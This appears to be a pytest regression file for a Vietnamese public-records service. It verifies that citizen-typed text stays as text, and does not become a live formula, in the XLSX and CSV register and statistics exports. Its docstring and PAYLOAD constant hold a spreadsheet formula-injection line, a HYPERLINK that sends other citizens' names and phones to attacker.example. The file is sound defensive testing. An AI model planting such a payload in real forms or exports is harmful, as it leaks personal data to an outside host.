"""The spreadsheets officers download hold data: a citizen's text typed as a formula stays text. The demo citizen
filed on Mon 07/12/2026 with the address ``=HYPERLINK("https://…?leak="&B7&C7, …)``; the receiving officer's register
(Sổ theo dõi hồ sơ, D31) as XLSX had it as a live formula cell, run when the officer opens the file and able to
send other citizens' names and phones away. Same for the statistics (D32) in CSV and XLSX, whose labels are
names an administrator typed."""
from __future__ import annotations

import csv
import io
import zipfile

from conftest import SAMPLE_FORM, vn

PAYLOAD = '=HYPERLINK("https://attacker.example/?leak="&B7&C7,"Xem chi tiết")'
RECEIVER, ADMIN, WARD = "demo.tiepnhan", "demo.admin", "000.00.06.H56"


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_formula_typed_in_a_form_is_text_in_the_register(api, clock):
    clock.set(vn(2026, 12, 7, 9, 0))
    form = {**SAMPLE_FORM, "dia_chi_tru_so": PAYLOAD, "chu_ho": {**SAMPLE_FORM["chu_ho"], "ho_ten": "=1+1 Nguyễn"}}
    api.file(form=form)
    r = api.get("/api/v1/register?from=2026-12-01&to=2026-12-31&format=xlsx", RECEIVER)
    assert r.status_code == 200, r.get_data()[:300]
    xml = sheet_xml(r.data)
    assert "<f>" not in xml
    assert '<t>=HYPERLINK("https://attacker.example/?leak="&amp;B7&amp;C7' in xml  # shown as typed


def test_a_name_that_reads_as_a_formula_is_text_in_the_statistics(api, clock):
    clock.set(vn(2026, 12, 7, 9, 0))
    r = api.client.patch(f"/api/v1/agencies/{WARD}", headers=api.headers(ADMIN), json={"name": "=1+2 Phường"})
    assert r.status_code == 200, r.get_json()
    api.file()
    period = "from=2026-12-01&to=2026-12-31&group_by=agency"
    r = api.get(f"/api/v1/reports/statistics?{period}&format=xlsx", ADMIN)
    assert r.status_code == 200 and "<f>" not in sheet_xml(r.data)
    r = api.get(f"/api/v1/reports/statistics?{period}&format=csv", ADMIN)
    assert r.status_code == 200
    labels = [row[1] for row in csv.reader(io.StringIO(r.data.decode("utf-8-sig")))]
    assert "'=1+2 Phường" in labels and "=1+2 Phường" not in labels
